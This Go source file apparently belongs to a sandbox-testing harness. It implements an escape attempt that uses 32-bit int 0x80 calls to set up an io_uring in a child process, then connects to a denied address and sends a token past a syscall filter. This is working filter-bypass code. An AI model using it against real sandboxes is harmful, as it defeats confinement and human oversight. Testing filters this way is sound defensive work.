package escapes

import (
	"encoding/binary"
	"fmt"
	"time"

	"golang.org/x/sys/unix"
)

// i386RingAttempts make an io_uring by int 0x80, where a filter may have looked
// at the 64-bit number alone.
func i386RingAttempts() []Attempt {
	return []Attempt{
		{Name: "abi/int80-uring", Does: "32-bit calls by int 0x80: make an io_uring, which connects", Needs: []Need{NeedURing}, Try: connectByRing32},
	}
}

// connectByRing32 uses a ring of a child's, with which it shares descriptors,
// and so much memory as ring and operation need. The ring's own thread lives
// as long as the child, and no other call is needed.
func connectByRing32(g *Ground) error {
	const fdAt, nameAt = 2048, 1024 // behind struct io_uring_params
	shared, err := unix.Mmap(-1, 0, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_ANONYMOUS|unix.MAP_32BIT)
	if err != nil {
		return fmt.Errorf("map memory: %w", err)
	}
	params := memory(shared)
	params.half(8, uringSetupSQP)
	params.half(16, uint32(attemptTime/time.Millisecond)) // before the ring's thread sleeps
	r, err := newRoutine()
	if err != nil {
		return err
	}
	r.call32(unix.SYS_IO_URING_SETUP, uringDepth, params.at(0))
	r.emit(0x89, 0x04, 0x25) // mov [fdAt], eax
	r.emitHalf(uint32(params.at(fdAt)))
	r.pause(attemptTime - 1)
	pid, err := r.start(unix.CLONE_FILES | uintptr(unix.SIGCHLD))
	if err != nil {
		return err
	}
	defer func() { _ = endChild(pid) }()
	fd := int32(0)
	for end := time.Now().Add(attemptTime / 4); fd == 0 && time.Now().Before(end); time.Sleep(time.Millisecond) {
		fd = int32(binary.LittleEndian.Uint32(params[fdAt:]))
	}
	ring, err := openRing(int(fd), params)
	if err != nil {
		return err
	}
	s, err := streamTo(g.Denied.AddrPort4())
	if err != nil {
		return err
	}
	name := sockaddr(g.Denied.AddrPort4())
	if _, err := ring.run(int(s.fd), true, func(e entry) {
		e.set(uringConnect, uint64(params.put(nameAt, name)), 0)
		binary.NativeEndian.PutUint64(e[8:], uint64(len(name)))
	}); err != nil {
		return err
	}
	return s.write([]byte(g.Token))
}
